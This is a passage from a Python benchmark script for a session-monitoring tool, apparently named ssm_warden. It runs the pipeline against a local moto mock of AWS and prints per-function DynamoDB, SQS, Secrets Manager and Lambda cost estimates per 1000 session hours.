    """The command monitor writes the session item on a stream's first batch and then at most every
    ``SESSION_FLUSH_INTERVAL``: the run's few rounds per session cannot show that steady state."""
    from ssm_warden.monitor.watch_state import SESSION_FLUSH_INTERVAL

    per_hour = timedelta(hours=1) / SESSION_FLUSH_INTERVAL
    return float(per_hour / ASSUMPTIONS["log_batches_per_session_hour"])


def cost(result: LoadResult, update_units: UpdateUnits) -> dict[str, Any]:
    a = ASSUMPTIONS
    sessions = 1000 / a["session_length_hours"]
    monitor_scale = {"session": _session_flushes_per_batch()}
    per = {
        name: _phase_cost(p, update_units, monitor_scale if name == "command_monitor" else None)
        for name, p in result.phases.items()
    }
    per["session_sweeper"] = _phase_cost(result.sweep_1000, update_units)
    executor = result.phases["action_executor"]
    risky_in_run = max(1, round(SESSIONS * a["risky_session_share"]))
    executor_invocations_per_risky = executor.invocations / risky_in_run
    counts = {
        "session_events": sessions * a["ledger_events_per_session"],
        "command_monitor": 1000 * a["log_batches_per_session_hour"],
        "action_executor": sessions * a["risky_session_share"] * executor_invocations_per_risky,
        "session_sweeper": a["sweeper_runs_per_hour"] * 1000 / a["concurrent_sessions_for_the_sweeper"],
    }
    lines: dict[str, dict[str, float]] = {}
    for name, invocations in counts.items():
        unit = per[name]
        sqs = unit["sqs"] + (
            a["sqs_requests_per_executor_invocation_by_the_event_source"] if name == "action_executor" else 0
        )
        lines[name] = {
            "invocations": round(invocations, 1),
            "dynamodb_usd": invocations
            * (
                unit["rru"] * PRICES["dynamodb_read_request_unit"]
                + unit["wru"] * PRICES["dynamodb_write_request_unit"]
            ),
            "sqs_usd": invocations * sqs * PRICES["sqs_request"],
            "secretsmanager_usd": invocations * unit["secrets"] * PRICES["secretsmanager_api_call"],
            "lambda_usd": invocations
            * (PRICES["lambda_request"] + unit["gb_s"] * PRICES["lambda_gb_second_arm64"]),
        }
    totals = {
        key: round(sum(line[key] for line in lines.values()), 4)
        for key in ("dynamodb_usd", "sqs_usd", "secretsmanager_usd", "lambda_usd")
    }
    per_1000_batches = per["command_monitor"]
    return {
        "metric": "cost_per_1000_session_hours",
        "usd_total": round(sum(totals.values()), 4),
        "usd_by_service": totals,
        "by_function": {
            name: {k: round(v, 5) if k != "invocations" else v for k, v in line.items()}
            for name, line in lines.items()
        },
        "usd_per_1000_log_batches": round(
            1000
            * (
                per_1000_batches["rru"] * PRICES["dynamodb_read_request_unit"]
                + per_1000_batches["wru"] * PRICES["dynamodb_write_request_unit"]
                + per_1000_batches["sqs"] * PRICES["sqs_request"]
                + PRICES["lambda_request"]
                + per_1000_batches["gb_s"] * PRICES["lambda_gb_second_arm64"]
            ),
            5,
        ),
        "per_invocation": {name: {k: round(v, 4) for k, v in unit.items()} for name, unit in per.items()},
        "command_monitor_write_units_per_batch": round(per_1000_batches["wru"], 3),
        "command_monitor_write_units_per_batch_by_item": {
            k: round(v, 3)
            for k, v in _write_units_by_kind(
                result.phases["command_monitor"], update_units, monitor_scale
            ).items()
        },
        "command_monitor_write_units_per_batch_measured_in_run": {
            k: round(v, 3)
            for k, v in _write_units_by_kind(result.phases["command_monitor"], update_units).items()
        },
        "command_monitor_session_writes_per_batch": round(monitor_scale["session"], 4),
        "command_monitor_session_writes_note": "steady state: the session item is written on a stream's "
        "first batch and then at most every SESSION_FLUSH_INTERVAL (watch_state); the run's "
        f"{ROUNDS} rounds per session show only the first batches, so its measured session writes per batch "
        "are printed beside this and not priced",
        "update_item_write_units_by_item": {
            f"{t.rsplit('-', 1)[-1]}:{k}": round(v, 2) for (t, k), v in update_units.items()
        },
        "update_item_units_note": "mean item size of each kind of item after the run, rounded up to 1 KB per "
        "item; an active session item adds its active-sessions index projection (INCLUDE)",
        "assumptions": {k: round(v, 3) if isinstance(v, float) else v for k, v in a.items()},
        "prices_usd": {**PRICES, "region": "us-east-1", "as_of": "2025 list prices; free tiers ignored"},
        "not_included": "CloudWatch Logs ingestion of the session logs, DynamoDB storage and PITR, KMS, "
        "Slack; Lambda durations are local wall times against moto (a cold start is not included)",
    }


# -- main ------------------------------------------------------------------------------------------


def _moto_baseline(endpoint: str) -> dict[str, Any]:
    dynamodb = _raw_client("dynamodb", endpoint)
    dynamodb.create_table(
        TableName="bench-baseline",
        AttributeDefinitions=[{"AttributeName": "pk", "AttributeType": "S"}],
        KeySchema=[{"AttributeName": "pk", "KeyType": "HASH"}],
        BillingMode="PAY_PER_REQUEST",
    )
    samples = []
    for n in range(500):
        t = time.perf_counter()
        dynamodb.put_item(TableName="bench-baseline", Item={"pk": {"S": f"k{n}"}, "v": {"S": "x" * 400}})
        samples.append(time.perf_counter() - t)
    return {
        "metric": "moto_put_item_baseline",
        "calls": len(samples),
        "ms_median": _ms(samples),
        "ms_p95": _ms(samples, 0.95),
        "note": "a bare PutItem against the same moto server: the floor under every counted call",
    }


def _active_index_attributes() -> tuple[str, ...]:
    """The attributes the active-sessions index holds (its keys and its INCLUDE projection)."""
    from ssm_warden.ledger.keys import ACTIVE_INDEX
    from ssm_warden_local.resources import load_template

    for resource in load_template()["Resources"].values():
        for index in resource.get("Properties", {}).get("GlobalSecondaryIndexes", []):
            if index.get("IndexName") == ACTIVE_INDEX:
                projection = index.get("Projection", {})
                keys = [k["AttributeName"] for k in index.get("KeySchema", [])]
                return (*keys, "pk", *projection.get("NonKeyAttributes", []))
    return ()


def main() -> None:
    from ssm_warden.config import reset_settings
    from ssm_warden.handlers import action_executor
    from ssm_warden.policy.store import reset_policy_cache
    from ssm_warden.slack.notifier import reset_notifier
    from ssm_warden.slack.secret import reset_secret_cache
    from ssm_warden_local.resources import create_stack_resources
    from ssm_warden_local.slack_sink import SlackSink

    out = sys.stdout
    quiet = io.StringIO()
    with (
        moto_process() as endpoint,
        environment(_base_environment(endpoint)),
        SlackSink(channels={"#ssm-warden": "C0SSMWARDEN", "#prod-security": "C0PRODSEC"}) as sink,
    ):
        print(json.dumps(_moto_baseline(endpoint)), file=out, flush=True)
        stack = create_stack_resources(lambda s: _raw_client(s, endpoint))
        secret = {"bot_token": sink.bot_token, "default_channel": "#ssm-warden"}
        _raw_client("secretsmanager", endpoint).create_secret(
            Name="ssm-warden/slack", SecretString=json.dumps(secret)
        )
        os.environ.update(
            {**stack.environment(), "SLACK_SECRET_NAME": "ssm-warden/slack", "SLACK_API_URL": sink.url}
        )
        reset_settings()
        reset_policy_cache()
        reset_notifier()
        reset_secret_cache()
        action_executor.reset_idempotency()
        meter = _meter()
        with contextlib.redirect_stdout(quiet):  # the functions' EMF metrics and logs
            result = run_pipeline(endpoint, meter, sink)
        for figure in result.figures:
            print(json.dumps(figure), file=out, flush=True)
        raw = _raw_client("dynamodb", endpoint)
        index_attributes = _active_index_attributes()
        update_units: UpdateUnits = {
            (table, kind): units
            for table in stack.tables.values()
            for kind, units in estimate_update_units_by_kind(
                raw, table, index_attributes if table == stack.tables["SessionsTable"] else ()
            ).items()
        }
        meter.calls.stop()
        with contextlib.redirect_stdout(quiet), environment(_base_environment(endpoint, LEDGER_REGION)):
            ledger_figures, _ = run_ledger(endpoint, result.template_item)
        for figure in ledger_figures:
            print(json.dumps(figure), file=out, flush=True)
        print(json.dumps(cost(result, update_units)), file=out, flush=True)


if __name__ == "__main__":
    main()
